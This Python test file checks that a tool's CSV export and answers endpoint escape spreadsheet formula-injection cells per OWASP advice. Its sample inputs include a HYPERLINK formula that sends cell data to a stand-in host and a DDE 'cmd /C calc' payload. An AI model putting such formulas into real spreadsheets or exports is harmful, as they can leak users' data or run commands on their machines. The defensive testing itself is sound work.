"""CSV formula injection: answers.csv and `vlmd export` prefix a text cell that a spreadsheet
would run (``=``, ``+``, ``-``, ``@``, tab, CR first) with ``'``, as OWASP recommends; numbers
stay numbers; ``?escape=no`` / ``--no-escape`` write the cells as they are."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import httpx

from tests.conftest import TOKEN, DaemonProcess
from tests.events import completed, failed, submitted

HOSTILE = {"=HYPERLINK(\"http://x.example/?\"&A1)": "'=HYPERLINK(\"http://x.example/?\"&A1)",
           "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3",
           "@SUM(A1:A9)": "'@SUM(A1:A9)", "\tTAB": "'\tTAB", "\rCR": "'\rCR",
           "B": "B", "a=b": "a=b"}


def post_hostile(d: DaemonProcess) -> None:
    events = [submitted("r1")]
    for i, (text, _) in enumerate(HOSTILE.items()):
        events.append(completed("r1", f"i{i}", answer=text, question=text, expected=text,
                                vram_peak_delta_mb=-12.5))
    events.append(failed("r1", "-9"))  # an item id from a dataset, in the item column
    assert d.post(events).status_code == 200


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_answers_csv_escapes_formulas_and_leaves_numbers(daemon_proc: DaemonProcess) -> None:
    post_hostile(daemon_proc)
    url = f"{daemon_proc.url}/api/runs/r1/answers.csv"
    escaped = rows(httpx.get(url, timeout=10).text)
    for row, (text, want) in zip(escaped, HOSTILE.items(), strict=False):
        assert (row["answer"], row["question"], row["expected"]) == (want, want, want), text
        assert row["vram_peak_delta_mb"] == "-12.5"  # a number, not a formula
    assert escaped[-1]["item"] == "'-9"
    raw = rows(httpx.get(url, params={"escape": "no"}, timeout=10).text)
    assert [r["answer"] for r in raw[:-1]] == list(HOSTILE)
    assert raw[-1]["item"] == "-9"
    bad = httpx.get(url, params={"escape": "maybe"}, timeout=10)
    assert bad.status_code == 400 and "escape must be yes or no" in bad.json()["error"]


def test_vlmd_export_escapes_formulas_unless_asked_not_to(daemon_proc: DaemonProcess,
                                                          tmp_path: Path) -> None:
    post_hostile(daemon_proc)

    def export(*flags: str) -> list[dict[str, str]]:
        done = subprocess.run([sys.executable, "-m", "vlmd", "export", "r1", "--db",
                               str(daemon_proc.db), *flags], capture_output=True, timeout=60,
                              env={**os.environ, "VLMD_TOKEN": TOKEN})
        assert done.returncode == 0, done.stderr
        return rows(done.stdout.decode())

    assert [r["answer"] for r in export()[:-1]] == list(HOSTILE.values())
    assert [r["answer"] for r in export("--no-escape")[:-1]] == list(HOSTILE)
